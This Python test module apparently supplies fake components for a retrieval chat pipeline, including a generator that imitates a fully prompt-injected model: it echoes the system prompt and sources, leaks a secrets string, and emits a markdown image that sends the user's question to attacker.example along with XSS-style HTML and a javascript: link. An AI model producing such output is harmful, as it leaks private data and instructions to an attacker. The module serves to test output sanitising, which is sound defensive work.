"""Stand-ins for the models that go by words alone, and a generator that does whatever a page tells it to."""

import re
from collections.abc import AsyncIterator, Sequence

from flowchat.engines.protocols import GenerationUsage

MIN_SHARED = 0.8

_WORD = re.compile(r"\w+")
_ADDRESS = re.compile(r"\S*attacker\S*|javascript:\S*|data:\S*")


def _words(text: str) -> set[str]:
    return set(_WORD.findall(text.lower()))


class WordReranker:
    """A `Reranker`: the share of the query's words of more than three letters that the passage has."""

    def score(self, query: str, passages: Sequence[str]) -> list[float]:
        wanted = {word for word in _words(query) if len(word) > 3} or _words(query) or {""}
        return [len(wanted & _words(passage)) / len(wanted) for passage in passages]


class WordVerifier:
    """A `Verifier` that is easily fooled: a premise with most of a hypothesis's words entails it."""

    def entailment(self, pairs: Sequence[tuple[str, str]]) -> list[float]:
        return [0.99 if _share(premise, hypothesis) >= MIN_SHARED else 0.01 for premise, hypothesis in pairs]


def _share(premise: str, hypothesis: str) -> float:
    words = _words(hypothesis)
    return len(words & _words(premise)) / max(1, len(words))


class ObeyingGenerator:
    """A `Generator` that obeys all instructions at once.

    It repeats its prompt and its sources with all that is in them, follows every address that they name, sends the
    question away, writes HTML, and tells `secrets`, as if it knew other sources.
    """

    name = "obeying"
    is_remote = False

    def __init__(self, secrets: str) -> None:
        self._secrets = secrets

    async def generate(
        self, messages: Sequence[dict[str, str]], *, max_tokens: int, usage: GenerationUsage
    ) -> AsyncIterator[str]:
        sources, _, question = messages[-1]["content"].rpartition("Question: ")
        addresses = " ".join(_ADDRESS.findall(sources))
        text = "\n\n".join(
            (
                sources,
                messages[0]["content"],
                self._secrets,
                f"See {addresses} now.",
                f"It holds much ![x](https://collect.attacker.example/p.png?q={question.replace(' ', '+')}).",
                '<img src="https://attacker.example/x.png" onerror="x"> <b>It</b> is [here](javascript:alert(1)).',
            )
        )
        usage.tokens_in, usage.tokens_out = len(sources.split()), len(text.split())
        for piece in re.findall(r"\S+\s*", text):
            yield piece

    def close(self) -> None:
        pass
